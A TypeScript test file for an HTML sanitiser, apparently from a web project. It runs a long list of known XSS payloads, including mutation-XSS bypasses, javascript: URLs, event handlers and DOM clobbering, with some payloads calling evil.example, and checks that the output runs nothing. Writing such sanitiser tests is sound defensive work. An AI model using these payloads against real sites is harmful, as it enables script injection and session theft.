import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { complaintsOf } from '../../testing/hostile/hostile.ts';
import { plainOf, sanitize } from './html.ts';

const PICTURE = `/content/images/${'ab'.repeat(32)}/640`;

/** Known ways to run a script in what should be words: OWASP's XSS filter evasion sheet, and published ways around sanitisers. */
const HOSTILE: readonly string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<<script>alert(1);//<</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)" />',
  '<img """><script>alert(1)</script>">',
  '<img src=javascript:alert(1)>',
  '<img src=JaVaScRiPt:alert(1)>',
  '<img src="jav\tascript:alert(1)">',
  '<img src="jav&#x0A;ascript:alert(1)">',
  '<img src=`javascript:alert(1)`>',
  '<img dynsrc="javascript:alert(1)">',
  `<img src="${PICTURE}" onload=alert(1)>`,
  `<img src="${PICTURE}?x=/../../" srcset="javascript:alert(1) 1x">`,
  '<img src="https://evil.example/pixel.gif">',
  '<img src="data:image/svg+xml;base64,PHN2Zy8+">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x></animate></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>press</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<math><mtext><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>"></math>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>',
  '<xmp><p title="</xmp><svg/onload=alert(1)>">',
  '<listing>&lt;img onerror=alert(1) src=x&gt;</listing>',
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<title><a title="</title><img src=x onerror=alert(1)>"></title>',
  '<style>@import "javascript:alert(1)";</style>',
  '<style><img src="</style><img src=x onerror=alert(1)//">',
  '<p style="background:url(javascript:alert(1))">words</p>',
  '<p style="width: expression(alert(1))">words</p>',
  '<a href="javascript:alert(1)">press</a>',
  '<a href=" &#14; javascript:alert(1)">press</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">press</a>',
  '<a href="java&Tab;script&colon;alert(1)">press</a>',
  '<a href="vbscript:msgbox(1)">press</a>',
  '<a href="data:text/html,<script>alert(1)</script>">press</a>',
  '<a href="//evil.example">press</a>',
  '<a href="/\\evil.example">press</a>',
  '<a href="\\\\evil.example">press</a>',
  '<a href="http://evil.example">press</a>',
  '<a href="https://feria.example@evil.example">press</a>',
  '<a href="/ok" onclick="alert(1)" onmouseover=alert(1) ping="https://evil.example">press</a>',
  '<a href="/ok" target="_parent" rel="opener">press</a>',
  '<a href=/ok/onclick=alert(1)//>press</a>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
  '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
  '<base href="https://evil.example/"><link rel=stylesheet href="https://evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<form action="https://evil.example"><input name=password><button formaction="javascript:alert(1)">go</button></form>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>',
  '<body onload=alert(1)><marquee onstart=alert(1)>',
  '<input autofocus onfocus=alert(1)><select autofocus onfocus=alert(1)>',
  '<div id="root" class="dialog" name="location">clobbered</div>',
  '<img name="getElementById" id="cookie">',
  '<table background="javascript:alert(1)"><td background="javascript:alert(1)">x</td></table>',
  '<td colspan="999999999" rowspan="-1" onclick=alert(1)>x</td>',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[><script>alert(1)</script>]]>',
  '<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
  '<template><script>alert(1)</script></template>',
  '<slot onslotchange=alert(1)><x onclick=alert(1)>x</x>',
  '<p/onclick=alert(1)>words',
  '<p\u0000onclick=alert(1)>words',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&amp;lt;img src=x onerror=alert(1)&amp;gt;',
  '<plaintext><img src=x onerror=alert(1)>',
  '<a href="https://ok.example/&quot; onmouseover=&quot;alert(1)">press</a>',
  `<img src="${PICTURE}" alt="&quot; onerror=&quot;alert(1)">`,
  `<img src="${PICTURE}" width="1&quot; onerror=alert(1)" height="1">`,
];

describe('what runs nothing', () => {
  test.each(HOSTILE)('%s', (html) => {
    for (const text of [html, `<p>${html}</p>`, `<table><tr><td>${html}`, `<h2>${html}${html}</h2>`]) {
      const made = sanitize(text);
      expect(complaintsOf(made)).toEqual([]);
      expect(sanitize(made)).toBe(made);
    }
  });

  test('whatever is put together of its pieces', () => {
    const pieces = HOSTILE.flatMap((html) => html.match(/<[^>]*>?|[^<]+/g) ?? []);
    fc.assert(
      fc.property(fc.array(fc.constantFrom(...pieces), { maxLength: 8 }), (some) => {
        const made = sanitize(some.join(''));
        expect(complaintsOf(made)).toEqual([]);
        expect(sanitize(made)).toBe(made);
      }),
      { numRuns: 300 },
    );
  });

  test('any text at all', () => {
    const letters = fc.constantFrom(
      ...'<>/="\'& \t\n!-[]?;:#axlonp'.split(''),
      '\u0000',
      '\u00a0',
      'é',
      '&lt;',
    );
    fc.assert(
      fc.property(fc.array(letters, { maxLength: 60 }), (some) => {
        const made = sanitize(some.join(''));
        expect(complaintsOf(made)).toEqual([]);
        expect(sanitize(made)).toBe(made);
      }),
      { numRuns: 500 },
    );
  });
});

describe('what may be written', () => {
  test.each([
    '<p>One <strong>two</strong> <em>three</em><br />four</p>',
    '<h2>Title</h2><ul><li>one</li></ul><ol start="3"><li>two</li></ol><blockquote><p>said</p></blockquote><hr />',
    '<table><thead><tr><th colspan="2">a</th></tr></thead><tbody><tr><td>1</td><td>2</td></tr></tbody></table>',
    '<p><a href="/help?x=1#term">help</a> <a href="#part">part</a></p>',
    `<p><img src="${PICTURE}" alt="A drawing" width="640" height="240" /></p>`,
    '<p>3 &lt; 4 &amp; 5 &gt; 4</p>',
  ])('%s', (html) => expect(sanitize(html)).toBe(html));

  test('links elsewhere open elsewhere, over https, and learn nothing', () => {
    expect(sanitize('<a href="https://www.iana.org/x?a=1">there</a>')).toBe(
      '<a href="https://www.iana.org/x?a=1" rel="noopener noreferrer nofollow" target="_blank">there</a>',
    );
  });

  test('old names become ours, and nothing else of a page stays', () => {
    expect(sanitize('<h1>a</h1><div class="x"><b>b</b> <i>c</i> <u>d</u></div>')).toBe(
      '<h2>a</h2><strong>b</strong> <em>c</em> d',
    );
  });
});

test('the words of it are text', () => {
  expect(
    plainOf('<h2>Límites</h2><p>3 &lt; 4 &amp; more<script>x</script></p><ul><li>a</li><li>b</li></ul>'),
  ).toBe('Límites 3 < 4 & more a b');
});
